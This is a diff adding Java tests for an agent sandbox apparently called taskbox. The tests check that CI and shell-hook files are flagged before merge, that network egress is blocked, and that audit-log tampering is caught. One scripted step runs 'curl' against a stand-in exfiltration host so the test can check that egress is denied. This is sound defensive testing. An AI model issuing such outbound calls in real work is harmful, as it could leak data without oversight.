@@ -57,6 +57,60 @@ class MainJobTest {
     }
 
     @Test
+    void flagsWhatRunsLaterAndMergesItOnlyWithAYes() throws Exception {
+        int id = taskbox.runScript("Leave something", "write .github/workflows/ci.yml x\ncommit CI\nwrite .envrc x\n");
+        JsonNode flags = taskbox.show(id).required("flags");
+        assertThat(flags.toString())
+                .isEqualTo("[{\"path\":\".github/workflows/ci.yml\",\"reason\":\"runs in CI\"},"
+                        + "{\"path\":\".envrc\",\"reason\":\"runs in a shell\"}]");
+        assertThat(taskbox.task("list", "--json").json().get(0).required("flags"))
+                .isEqualTo(flags);
+        assertThat(taskbox.task("diff", "1", "--json").json().required("flags")).isEqualTo(flags);
+        assertThat(taskbox.events(id).stream()
+                        .filter(event -> event.required("kind").stringValue().equals("flag.raised")))
+                .hasSize(2);
+
+        Installed.Result refused = taskbox.task("merge", Integer.toString(id), "--committed");
+        assertThat(refused.exitCode()).isEqualTo(5);
+        assertThat(refused.err())
+                .contains(".github/workflows/ci.yml (runs in CI)")
+                .doesNotContain(".envrc");
+        assertThat(taskbox.git("rev-list", "--count", "HEAD")).isEqualTo("1");
+        taskbox.task("merge", Integer.toString(id), "--committed", "--yes").succeeded();
+        assertThat(taskbox.project().resolve(".github/workflows/ci.yml")).hasContent("x");
+    }
+
+    @Test
+    void writesDownWhatWasDecidedAndNoticesAChangeOfIt() throws Exception {
+        taskbox.write(".taskbox.yaml", "setup: test -e README.md\nverify: test -e README.md\n");
+        int id = taskbox.runScript("Look out", "run curl -sS https://exfil.example/\nwrite .envrc x\n");
+
+        List<String> lines = taskbox.task("audit", Integer.toString(id))
+                .succeeded()
+                .out()
+                .lines()
+                .map(line -> line.replaceFirst("^[0-9]+\t[^\t]*\t", ""))
+                .toList();
+        assertThat(lines)
+                .anySatisfy(line ->
+                        assertThat(line).startsWith("run.started\ttask=" + id + "\trun=1\tturn=1\tagent=scripted"))
+                .contains("process.started\tprocess=setup\tkey=start-setup")
+                .contains("process.ended\tprocess=turn-1\texitCode=0\tcause=itself\tkey=end-turn-1")
+                .contains("process.ended\tprocess=verify-1\texitCode=0\tcause=itself\tkey=end-verify-1")
+                .contains("egress.denied\thost=exfil.example\tport=443\trule=not in network.allow")
+                .anySatisfy(line -> assertThat(line).startsWith("flag.raised\tpath=.envrc\treason=runs in a shell"))
+                .endsWith("run.ended\tstate=finished\texitCode=0\tkey=finish-1");
+        assertThat(taskbox.task("audit", "1", "--verify").succeeded().out())
+                .isEqualTo("audit: " + lines.size() + " entries, whole\n");
+
+        Path audit = taskbox.home().resolve("data/tasks/" + id + "/runs/1/audit.jsonl");
+        Files.writeString(audit, Files.readString(audit).replace("exfil.example", "docs.example"));
+        Installed.Result changed = taskbox.task("audit", "1", "--verify");
+        assertThat(changed.exitCode()).isEqualTo(1);
+        assertThat(changed.out()).contains("line ").contains("it was changed");
+    }
+
+    @Test
     void letsGitWorkInsideAsAnywhere() throws Exception {
         int id = taskbox.runScript("Use git", """
                 run test -z "$(git status --porcelain)" && echo clean-before
